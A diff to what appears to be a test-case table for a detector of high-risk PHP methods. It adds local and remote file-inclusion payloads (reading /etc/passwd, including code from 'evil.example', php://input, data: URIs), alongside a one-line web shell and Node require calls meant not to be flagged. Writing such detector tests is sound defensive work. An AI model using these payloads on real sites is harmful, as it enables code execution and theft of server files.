@@ -8,6 +8,10 @@ CASES: tuple[Case, ...] = (
     Case(
         "PHPHighRiskMethods",
         (
+            # include/require of a path, URL, script or data file, a variable or a call
+            "require('/etc/passwd')", "include('http://evil.example/x.txt')", "require_once('shell.php')",
+            "include(\"php://input\")", "require('data:text/plain,<?php phpinfo();?>')", "include($_GET['p'])",
+            "require(base64_decode('Li4v'))",
             "<?php system($_GET['c']); ?>",
             "php://filter/convert.base64-encode/resource=index.php",
             "$a(1)",
@@ -104,6 +108,11 @@ CASES: tuple[Case, ...] = (
             "x = (obj.method)(arg)",
             "My host disabled shell_exec, so the plugin fails",
             "$_SERVER is a superglobal",
+            # Node's require names a module, not a file to run
+            "const express = require('express')", "const { read } = require('@npmcli/fund')",
+            "const u = require('./lib/util.js')", "import x from 'y'; const z = require(\"lodash.merge\")",
+            # a method defined with no parameters
+            "class Stop {\n  async exec () {\n    return 1\n  }\n}", "public function file() { return $this->f; }",
         ),
     ),
     Case(
